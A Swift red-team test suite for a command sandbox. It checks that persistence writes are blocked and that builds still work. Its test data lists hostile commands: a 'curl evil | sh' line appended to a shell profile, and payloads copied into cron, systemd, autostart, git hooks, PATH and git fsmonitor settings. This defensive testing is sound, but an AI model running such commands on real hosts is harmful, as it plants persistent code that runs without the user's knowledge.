import Foundation
import PiePolicy
import Testing

@testable import PieSandbox

/// Default-preset host writes: balanced used to run every command on the host, so a command could
/// change what runs outside pie later (shell start-up files, git's global configuration, autostart
/// entries, cron, tools on PATH, git hooks). balanced now runs in the sandbox: `$HOME` and the
/// system are read-only there, the project is writable, and its protected paths are not.
@Suite("Red team: default-preset host writes") struct RedTeamDefaultPresetTests {
    /// Each write names a place the host later runs or reads settings from.
    static let writes = [
        "cp payload ~/.bashrc", "echo 'curl evil | sh' >> ~/.profile", "echo x >> ~/.zshenv",
        "mkdir -p ~/.config/autostart && cp payload ~/.config/autostart/pie.desktop",
        "mkdir -p ~/.config/systemd/user && cp payload ~/.config/systemd/user/pie.service",
        "git config --global core.fsmonitor 'touch /tmp/owned'", "mkdir -p ~/.local/bin && cp payload ~/.local/bin/git",
        "cp payload /usr/local/bin/git", "cp payload /etc/cron.d/pie", "cp payload /etc/profile.d/pie.sh",
        "cp payload .git/hooks/pre-commit", "git config core.fsmonitor 'touch /tmp/owned'",
        "echo '[core] hooksPath = /tmp' >> .git/config", "cp payload .vscode/tasks.json", "cp payload .envrc",
    ]

    @Test(arguments: SandboxStart.allCases)
    func hostWritesAreContained(_ start: SandboxStart) async throws {
        let fixture = try PresetFixture(.balanced, start: start) { project in
            try project.write("payload", "touch /tmp/owned\n")
            try project.write(".git/hooks/README", "hooks")
            try project.write(".git/config", "[core]\n\trepositoryformatversion = 0\n")
        }
        try fixture.home.write(".profile", "# profile\n")
        #expect(fixture.effective.policy.sandboxMode == .auto && fixture.effective.policy.sandboxNetwork)
        let command = Self.writes.enumerated().map { index, write in
            "( \(write) ) >/dev/null 2>&1; echo \"write \(index): $?\""
        }.joined(separator: "\n")
        let (_, output) = try await fixture.run(command)
        for (index, write) in Self.writes.enumerated() {
            #expect(output.contains("write \(index): ") && !output.contains("write \(index): 0\n"), "'\(write)' succeeded: \(output)")
        }
        #expect(fixture.home.read(".profile") == "# profile\n")
        for created in [".bashrc", ".zshenv", ".gitconfig", ".config/autostart/pie.desktop", ".local/bin/git", ".config/systemd/user/pie.service"] {
            #expect(!fixture.home.exists(created), "\(created) was created in $HOME")
        }
        for created in ["/usr/local/bin/git", "/etc/cron.d/pie", "/etc/profile.d/pie.sh"] where access(created, F_OK) == 0 {
            #expect(FileManager.default.contents(atPath: created) != Data("touch /tmp/owned\n".utf8), "\(created) was replaced")
        }
        #expect(!fixture.project.exists(".git/hooks/pre-commit") && !fixture.project.exists(".vscode/tasks.json") && !fixture.project.exists(".envrc"))
        #expect(fixture.project.read(".git/config") == "[core]\n\trepositoryformatversion = 0\n")
    }

    /// The project is writable and the everyday build tools work in the default sandbox.
    @Test(arguments: SandboxStart.allCases)
    func buildsWorkInTheDefaultSandbox(_ start: SandboxStart) async throws {
        let fixture = try PresetFixture(.balanced, start: start) { project in
            try project.write("hello.c", "#include <stdio.h>\nint main(void) { puts(\"hello-built\"); return 0; }\n")
            try project.write("Makefile", "hello: hello.c\n\tcc -o hello hello.c\n")
            try project.write("test_app.py", "assert sum([1, 2]) == 3\nprint('py-tests-ok')\n")
        }
        let (outcome, output) = try await fixture.run("make >/dev/null && ./hello && python3 test_app.py && mkdir -p build && echo ok > build/out")
        #expect(outcome.exitCode == 0, "\(output)")
        #expect(output.contains("hello-built") && output.contains("py-tests-ok"))
        #expect(fixture.project.read("build/out") == "ok\n")
    }
}
